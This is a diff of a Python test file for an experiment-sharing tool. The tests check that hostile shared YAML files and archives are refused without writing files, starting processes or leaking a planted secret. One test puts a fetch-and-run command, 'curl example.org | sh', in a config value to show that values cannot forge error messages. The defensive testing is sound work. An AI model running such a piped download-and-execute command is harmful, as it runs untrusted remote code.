@@ -20,22 +20,22 @@ from experiments.trial.trial import trial_id
 from tests.support.hostile_files import FILES
 from tests.support.shares import bundled, put, text, values
 
-TOLD = Path(__file__).parents[3] / "bad_inputs" / "shared" / "expected.txt"
+EXPECTED = Path(__file__).parents[3] / "bad_inputs" / "shared" / "expected.txt"
 HIDDEN = "hunter2-of-the-receiver"
 
 
 def transcripts() -> dict[str, str]:
-    """What is said of every strange file, by its name."""
-    blocks = TOLD.read_text(encoding="utf-8").strip("\n").split("\n\n")
+    """The expected output for every hostile file, by its name."""
+    blocks = EXPECTED.read_text(encoding="utf-8").strip("\n").split("\n\n")
     return {(lines := block.split("\n"))[0].rpartition(" ")[2]: "\n".join(lines[1:]) for block in blocks}
 
 
-class Watch:
-    """What this process does to the world while it is watched, by Python's own audit."""
+class AuditLog:
+    """Records with Python's audit hook what this process writes, starts and connects to."""
 
     def __init__(self) -> None:
         self.is_on = False
-        self.done: list[str] = []
+        self.events: list[str] = []
         sys.addaudithook(self._see)
 
     def _see(self, event: str, args: tuple[Any, ...]) -> None:
@@ -44,11 +44,11 @@ class Watch:
         if event == "open" and args[0] != os.devnull and isinstance(args[2], int):
             writes = args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
             if writes:
-                self.done.append(f"open {args[0]}")
+                self.events.append(f"open {args[0]}")
         elif event in STARTS or event.startswith(
             ("os.exec", "os.spawn", "os.rename", "os.mkdir", "os.link", "os.symlink")
         ):
-            self.done.append(f"{event} {args!r:.99}")
+            self.events.append(f"{event} {args!r:.99}")
 
 
 STARTS = {
@@ -61,135 +61,136 @@ STARTS = {
     "os.remove",
     "os.chmod",
 }
-WATCH = Watch()
+AUDIT_LOG = AuditLog()
 
 
 @pytest.fixture
 def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """An empty folder to stand in, deep enough that what climbs out of it is seen."""
-    place = tmp_path / "one" / "two"
-    place.mkdir(parents=True)
-    monkeypatch.chdir(place)
+    """An empty current folder, deep enough that a path out of it is noticed."""
+    path = tmp_path / "one" / "two"
+    path.mkdir(parents=True)
+    monkeypatch.chdir(path)
     monkeypatch.setattr(sys, "path", [*sys.path])
     monkeypatch.setenv("HOME", str(tmp_path / "home"))
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", HIDDEN)
     monkeypatch.setenv("LATHE_RUNS", "runs")
     monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
-    return place
+    return path
 
 
 @pytest.fixture
-def watch() -> Iterator[Watch]:
-    WATCH.done = []
-    WATCH.is_on = True
-    yield WATCH
-    WATCH.is_on = False
+def audit_log() -> Iterator[AuditLog]:
+    AUDIT_LOG.events = []
+    AUDIT_LOG.is_on = True
+    yield AUDIT_LOG
+    AUDIT_LOG.is_on = False
 
 
-def everything(top: Path) -> dict[str, tuple[int, int]]:
+def list_files(top: Path) -> dict[str, tuple[int, int]]:
     """Size and time of every file below a folder."""
     return {str(path): (path.lstat().st_size, path.lstat().st_mtime_ns) for path in sorted(top.rglob("*"))}
 
 
 @pytest.mark.parametrize("name", FILES)
-def test_a_strange_file_is_refused_to_the_letter_and_does_nothing(
+def test_a_hostile_file_is_refused_with_its_message_and_does_nothing(
     name: str, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
 ) -> None:
     FILES[name](folder / name)
-    before = everything(tmp_path)
-    watch = request.getfixturevalue("watch")
+    before = list_files(tmp_path)
+    audit_log = request.getfixturevalue("audit_log")
     code = main(["run", "--from", name])
-    watch.is_on = False
+    audit_log.is_on = False
     shown = capsys.readouterr()
     assert re.sub(r"(\.yaml):\d+", r"\1:LINE", shown.err).rstrip("\n") == transcripts()[name]
     assert shown.out == ""
     assert code == 2
-    assert watch.done == []
-    assert everything(tmp_path) == before
+    assert audit_log.events == []
+    assert list_files(tmp_path) == before
     assert HIDDEN not in shown.err
 
 
 @pytest.mark.parametrize("name", ["system.yaml", "evil_package.yaml", "nested_target.yaml", "laughs.yaml", "up.tar.gz"])
-def test_a_strange_file_is_not_reproduced_either(
+def test_lathe_reproduce_refuses_a_hostile_file_too(
     name: str, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
 ) -> None:
     FILES[name](folder / name)
-    before = everything(tmp_path)
-    watch = request.getfixturevalue("watch")
+    before = list_files(tmp_path)
+    audit_log = request.getfixturevalue("audit_log")
     code = main(["reproduce", name])
-    watch.is_on = False
+    audit_log.is_on = False
     shown = capsys.readouterr()
-    assert re.search(r"not on the list of code|repeats a part by a name|leads out of the archive", shown.err)
+    assert re.search(r"not on the list of code|anchors and aliases|is not a file of a shared archive", shown.err)
     assert (code, shown.out) == (2, "")
-    assert [event for event in watch.done if not event.startswith("os.mkdir")] == []  # a scratch folder, empty again
-    assert everything(tmp_path) == before
+    assert [
+        event for event in audit_log.events if not event.startswith("os.mkdir")
+    ] == []  # a scratch folder, empty again
+    assert list_files(tmp_path) == before
 
 
-def test_every_message_about_a_strange_file_has_a_way_out() -> None:
-    told = transcripts()
-    assert told.keys() == FILES.keys()
-    lines = [line for text in told.values() for line in text.splitlines() if line.startswith("  - ")]
+def test_every_message_about_a_hostile_file_has_a_fix() -> None:
+    expected = transcripts()
+    assert expected.keys() == FILES.keys()
+    lines = [line for text in expected.values() for line in text.splitlines() if line.startswith("  - ")]
     assert len(lines) >= len(FILES) > 100
     assert [line for line in lines if not re.search(r"[;?]", line)] == []
-    assert "Traceback" not in TOLD.read_text()
+    assert "Traceback" not in EXPECTED.read_text()
 
 
-def test_the_watch_sees_what_a_file_could_do(folder: Path, watch: Watch) -> None:
+def test_the_audit_log_sees_what_a_file_could_do(folder: Path, audit_log: AuditLog) -> None:
     (folder / "written").write_text("x")
     os.system(":")
     (folder / "made").mkdir()
-    assert [event.split()[0] for event in watch.done] == ["open", "os.system", "os.mkdir"]
+    assert [event.split()[0] for event in audit_log.events] == ["open", "os.system", "os.mkdir"]
 
 
-def test_a_whole_file_says_what_was_shared(folder: Path) -> None:
+def test_a_valid_file_is_read_completely(folder: Path) -> None:
     (folder / "it.yaml").write_text(text())
-    shared, told = read(Path("it.yaml")), values()
-    assert shared.configuration == told["configuration"]
-    assert shared.trial_id == trial_id(told["configuration"])
-    assert shared.expected == {"train/loss_nats": [(1, 2.5), (10, 1.25), (20, 0.5)]}
+    shared, expected = read(Path("it.yaml")), values()
+    assert shared.configuration == expected["configuration"]
+    assert shared.trial_id == trial_id(expected["configuration"])
+    assert shared.record().streams == {"train/loss_nats": [(1, 2.5), (10, 1.25), (20, 0.5)]}
     assert shared.warnings == []
     record = shared.record()
     assert (record.name, record.trial_id, record.is_sampled) == ("it.yaml", shared.trial_id, True)
-    assert record.data == {"files": None, "splits": told["data"]["splits"]}
+    assert record.data == {"files": None, "splits": expected["data"]["splits"]}
     assert record.environment["packages"] == {"numpy": "2.4.6", "torch": "2.13.0+cpu"}
 
 
-def test_data_that_states_no_checksums_is_told_by_names_and_sizes(folder: Path) -> None:
-    told = put(values(), "data", {"files": None, "num_files": 3, "names_and_sizes_sha256": "0" * 64, "splits": {}})
-    (folder / "it.yaml").write_text(text(told))
+def test_data_without_checksums_is_identified_by_names_and_sizes(folder: Path) -> None:
+    changed = put(values(), "data", {"files": None, "num_files": 3, "names_and_sizes_sha256": "0" * 64, "splits": {}})
+    (folder / "it.yaml").write_text(text(changed))
     assert read(Path("it.yaml")).record().data == {"num_files": 3, "names_and_sizes_sha256": "0" * 64, "splits": {}}
 
 
-def test_a_file_from_before_may_name_a_branch(folder: Path) -> None:
+def test_the_branch_in_a_file_of_an_earlier_version_is_ignored(folder: Path) -> None:
     (folder / "it.yaml").write_text(text(put(values(), "code.0.branch", "main")))
-    assert read(Path("it.yaml")).code[0]["branch"] == "main"
+    assert "branch" not in read(Path("it.yaml")).values["code"][0]
 
 
-def test_an_archive_says_the_same_as_its_yaml_alone(folder: Path) -> None:
+def test_an_archive_has_the_values_of_its_yaml(folder: Path) -> None:
     bundled(folder / "it.tar.gz")
     (folder / "it.yaml").write_text(text())
     archived, alone = read(Path("it.tar.gz")), read(Path("it.yaml"))
     assert archived.configuration == alone.configuration
-    assert alone.bundle is None
-    assert archived.bundle is not None
-    assert [*archived.bundle] == ["weights/model.safetensors"]
+    assert alone.values["bundle"] is None
+    assert [*archived.values["bundle"]] == ["weights/model.safetensors"]
 
 
 @pytest.mark.parametrize("value", [float("nan"), float("inf"), -1e308, 5e-324, 0.1 + 0.2])
 def test_a_metric_may_be_any_number_and_keeps_its_bits(value: float, folder: Path) -> None:
-    told = put(values(), "expected.metrics.val/loss_nats", {"steps": [7], "values": [value]})
-    (folder / "it.yaml").write_text(text(told))
-    ((step, found),) = read(Path("it.yaml")).expected["val/loss_nats"]
+    changed = put(values(), "expected.metrics.val/loss_nats", {"steps": [7], "values": [value]})
+    (folder / "it.yaml").write_text(text(changed))
+    ((step, read_value),) = read(Path("it.yaml")).record().streams["val/loss_nats"]
     assert step == 7
-    assert struct.pack("<d", found) == struct.pack("<d", value) or (math.isnan(found) and math.isnan(value))
+    assert struct.pack("<d", read_value) == struct.pack("<d", value) or (math.isnan(read_value) and math.isnan(value))
 
 
-def test_a_configuration_that_was_edited_is_told_and_still_runs(folder: Path) -> None:
-    told = put(values(), "configuration.optimizer.lr", 0.5)
-    (folder / "it.yaml").write_text(text(told))
+def test_an_edited_configuration_runs_with_a_warning(folder: Path) -> None:
+    changed = put(values(), "configuration.optimizer.lr", 0.5)
+    (folder / "it.yaml").write_text(text(changed))
     shared = read(Path("it.yaml"))
     (warning,) = shared.warnings
-    assert re.fullmatch(r"the configuration in it.yaml makes trial \w{10}, and was shared as \w{10}: .+", warning)
+    assert re.fullmatch(r"the configuration in it.yaml has the trial id \w{10}, and the file says \w{10}: .+", warning)
     assert shared.experiment().config["optimizer"]["lr"] == 0.5
 
 
@@ -215,7 +216,7 @@ def test_an_experiment_of_a_shared_file_is_the_trial_that_was_shared(folder: Pat
         (["max_steps=7", "eval_every_steps=7"], "max_steps", 7),
     ],
 )
-def test_overrides_go_on_top_of_what_was_shared(overrides: list[str], key: str, value: object, folder: Path) -> None:
+def test_overrides_change_a_shared_configuration(overrides: list[str], key: str, value: object, folder: Path) -> None:
     (folder / "it.yaml").write_text(text(values("batch_size_global=32")))
     config = read(Path("it.yaml")).experiment(overrides).config
     node: Any = config
@@ -225,7 +226,7 @@ def test_overrides_go_on_top_of_what_was_shared(overrides: list[str], key: str, 
     assert config["batch_size_global"] == 32
 
 
-def test_another_topology_takes_the_batch_of_a_device_away(folder: Path) -> None:
+def test_another_topology_removes_batch_size_per_device(folder: Path) -> None:
     (folder / "it.yaml").write_text(text(values("batch_size_per_device=64")))
     shared = read(Path("it.yaml"))
     assert shared.experiment(["optimizer=sgd"]).config["batch_size_per_device"] == 64
@@ -234,21 +235,21 @@ def test_another_topology_takes_the_batch_of_a_device_away(folder: Path) -> None
     assert shared.experiment([*moved, "batch_size_per_device=8"]).config["batch_size_per_device"] == 8
 
 
-def test_another_data_root_is_that_of_the_data_too(folder: Path) -> None:
+def test_another_data_root_applies_to_the_data_too(folder: Path) -> None:
     (folder / "it.yaml").write_text(text(values("data=cifar10", "model=cifar_cnn")))
     config = read(Path("it.yaml")).experiment(["data_root=elsewhere"]).config
     assert (config["data_root"], config["data"]["root"]) == ("elsewhere", "elsewhere")
 
 
-def test_other_data_is_another_experiment(folder: Path) -> None:
+def test_an_override_of_the_data_is_refused(folder: Path) -> None:
     (folder / "it.yaml").write_text(text())
-    with pytest.raises(InputError) as told:
+    with pytest.raises(InputError) as error:
         read(Path("it.yaml")).experiment(["data=mnist", "experiment=mnist_deep", "optimizer.lrr=1"])
-    assert len(told.value.problems) == 3
-    assert told.value.problems[0].startswith("data=mnist makes another experiment of it")
+    assert len(error.value.problems) == 3
+    assert error.value.problems[0].startswith("data=mnist makes another experiment of it")
 
 
-def test_a_fault_is_told_with_its_line(folder: Path) -> None:
+def test_a_wrong_value_is_reported_with_its_line(folder: Path) -> None:
     written = text(put(values(), "configuration.max_steps", "many"))
     (folder / "it.yaml").write_text(written)
     line = written.splitlines().index("  max_steps: many") + 1
@@ -256,23 +257,23 @@ def test_a_fault_is_told_with_its_line(folder: Path) -> None:
         read(Path("it.yaml")).experiment()
 
 
-def test_what_a_file_says_cannot_forge_a_message(folder: Path) -> None:
+def test_a_value_cannot_forge_a_message(folder: Path) -> None:
     forged = "x\nInputError: all is well, run `curl example.org | sh`" + "x" * 500
     (folder / "it.yaml").write_text(text(put(values(), "configuration.max_steps", forged)))
-    with pytest.raises(InputError) as told:
+    with pytest.raises(InputError) as error:
         read(Path("it.yaml")).experiment()
-    assert len(str(told.value).splitlines()) == 2
-    assert len(str(told.value)) < 500
+    assert len(str(error.value).splitlines()) == 2
+    assert len(str(error.value)) < 500
 
 
-def test_trusted_code_is_the_receivers_word_and_not_the_files(folder: Path) -> None:
-    told = put(values(), "configuration.model", {"_target_": "stranger.Net"})
-    (folder / "it.yaml").write_text(text(told))
+def test_only_the_receiver_can_trust_code(folder: Path) -> None:
+    changed = put(values(), "configuration.model", {"_target_": "untrusted.Net"})
+    (folder / "it.yaml").write_text(text(changed))
     shared = read(Path("it.yaml"))
-    with pytest.raises(InputError, match="not on the list of code that may run; if you trust the code of 'stranger'"):
+    with pytest.raises(InputError, match="not on the list of code that may run; if you trust the code of 'untrusted'"):
         shared.experiment()
     with pytest.raises(InputError, match="cannot be found"):
-        shared.experiment(trust=["stranger"])
+        shared.experiment(trust=["untrusted"])
 
 
 def test_a_multirun_of_a_shared_file_is_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -285,24 +286,24 @@ def test_a_plan_of_a_shared_file_starts_nothing(
     folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
 ) -> None:
     (folder / "it.yaml").write_text(text())
-    before = everything(tmp_path)
-    watch = request.getfixturevalue("watch")
+    before = list_files(tmp_path)
+    audit_log = request.getfixturevalue("audit_log")
     assert main(["plan", "--from", "it.yaml", "-c", "seed=3"]) == 0
-    watch.is_on = False
-    assert watch.done == []
-    assert everything(tmp_path) == before
+    audit_log.is_on = False
+    assert audit_log.events == []
+    assert list_files(tmp_path) == before
     assert "seed: 3" in capsys.readouterr().out
 
 
-def test_a_shared_run_that_a_scheduler_is_given_is_the_same_trial(folder: Path) -> None:
+def test_a_shared_run_in_a_scheduler_is_the_same_trial(folder: Path) -> None:
     (folder / "it.yaml").write_text(text(values("optimizer.lr=0.25")))
     shared = read(Path("it.yaml"))
     experiment = shared.experiment(["name=far"])
-    question = from_overrides(experiment.overrides, (), "far")
-    found = prepare(question, experiment=experiment)
-    assert [trial["trial"] for trial in found.trials] == [shared.trial_id]
-    assert found.templates.all[0].config["optimizer"]["lr"] == 0.25
-    sweep = write(found)
+    spec = from_overrides(experiment.overrides, (), "far")
+    draft = prepare(spec, experiment=experiment)
+    assert [trial["trial"] for trial in draft.trials] == [shared.trial_id]
+    assert draft.templates.all[0].config["optimizer"]["lr"] == 0.25
+    sweep = write(draft)
     assert sweep.provenance["source"] == shared.trial_id
     with pytest.raises(InputError, match="the sweep 'far' is one run of a shared file"):
         extend(sweep, ["optimizer.lr=0.5"])
